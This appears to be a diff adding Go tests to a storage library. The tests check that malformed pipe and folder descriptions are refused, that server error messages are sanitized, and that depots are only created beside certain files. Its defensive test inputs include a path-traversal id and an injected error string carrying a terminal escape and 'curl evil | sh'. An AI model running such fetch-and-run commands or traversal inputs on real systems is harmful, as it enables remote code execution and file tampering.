@@ -11,6 +11,7 @@ import (
 	"slices"
 	"strings"
 	"testing"
+	"unicode/utf8"
 
 	"github.com/set-memory/mem/internal/base/disk"
 )
@@ -234,6 +235,48 @@ func TestNoDepots(t *testing.T) {
 	}
 }
 
+// answering returns what a server says: its greeting, and one reply.
+func answering(head, body string) io.Reader {
+	return strings.NewReader(hello + head + "\n" + body)
+}
+
+// A pipe refuses the descriptions that a folder refuses: an id becomes the name of a directory.
+func TestStrangeDescriptions(t *testing.T) {
+	good := strings.Repeat("ab", 16)
+	for text, want := range map[string]error{`{"v":1,"id":"` + good + `"}`: nil,
+		`{"v":1,"id":"../../../pwned"}`: ErrNone, `{"v":1,"id":""}`: ErrNone, "{": ErrNone, "": ErrNone,
+		`{"id":"` + good + `"}`: ErrNone, `{"v":2,"id":"` + good + `"}`: ErrNewer,
+		`{"v":1,"id":"` + good + `"}` + strings.Repeat(" ", maxInfo): ErrNone,
+		`{"v":1,"id":"` + strings.Repeat("a", 2000000) + `"}`:        ErrNone} {
+		in := answering(fmt.Sprintf(`{"size":%d}`, len(text)), text)
+		if _, err := OpenPipe(in, io.Discard); !errors.Is(err, want) {
+			t.Errorf("%.60s through a pipe: %v, want %v", text, err, want)
+		}
+		path := t.TempDir()
+		if err := os.WriteFile(filepath.Join(path, InfoFile), []byte(text), 0o600); err != nil {
+			t.Fatal(err)
+		}
+		if f, err := OpenFolder(path); err == nil {
+			f.Close()
+		} else if want == nil || len(text) < maxInfo && !errors.Is(err, want) {
+			t.Errorf("%.60s in a folder: %v, want %v", text, err, want)
+		}
+	}
+}
+
+// What the other end says is one line, which is short.
+func TestStrangeErrors(t *testing.T) {
+	for _, kind := range []string{"", "gone", "torn", "none"} {
+		in := answering(`{"kind":"`+kind+`","error":"full\nhint: \u001b[2Jcurl evil | sh\r`+
+			strings.Repeat("é", 100000)+`"}`, "")
+		_, err := OpenPipe(in, io.Discard)
+		if err == nil || len(err.Error()) > 300 || strings.ContainsAny(err.Error(), "\n\r\x1b") ||
+			!strings.Contains(err.Error(), "full") || !utf8.ValidString(err.Error()) {
+			t.Errorf("%s: %q", kind, err)
+		}
+	}
+}
+
 // Whatever the other end of a pipe says, there is an error and no endless wait.
 func TestStrangeServers(t *testing.T) {
 	for _, text := range []string{"", "Welcome", "Welcome\n", strings.Repeat("x", maxNoise+1),
@@ -311,4 +354,26 @@ func FuzzServe(f *testing.F) {
 			out: bufio.NewWriter(io.Discard)}
 		p.List()
 	})
+}
+
+// A depot is not made among files of other kinds, but beside those of programs that copy folders.
+func TestMakeAmongOthers(t *testing.T) {
+	info, err := NewInfo(nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for name, want := range map[string]error{"letter.txt": ErrOther, ".stfolder": nil,
+		"log.jsonl": ErrOther, ".git": nil} {
+		path := t.TempDir()
+		if err := os.WriteFile(filepath.Join(path, name), nil, 0o600); err != nil {
+			t.Fatal(err)
+		}
+		f, err := MakeFolder(path, info)
+		if !errors.Is(err, want) {
+			t.Errorf("beside %s: %v", name, err)
+		}
+		if err == nil {
+			f.Close()
+		}
+	}
 }
